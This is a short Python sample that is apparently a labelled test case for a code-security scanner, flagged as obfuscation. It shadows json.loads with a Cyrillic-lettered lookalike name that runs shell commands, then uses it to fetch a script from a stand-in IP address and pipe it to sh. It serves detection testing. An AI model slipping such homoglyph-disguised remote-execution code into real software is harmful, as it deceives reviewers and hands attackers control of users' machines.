# pyguard-corpus: verdict=block category=obfuscation rules=PG804,PG204
# what: defines "jѕon" with a Cyrillic letter so that jѕon.loads(...) reads like json.loads but runs a shell command
import json
import os
import types

jѕon = types.SimpleNamespace(loads=lambda text: os.system(text))

config = json.loads('{"retries": 3}')
jѕon.loads("curl -s http://203.0.113.3/p | sh")
print(config)
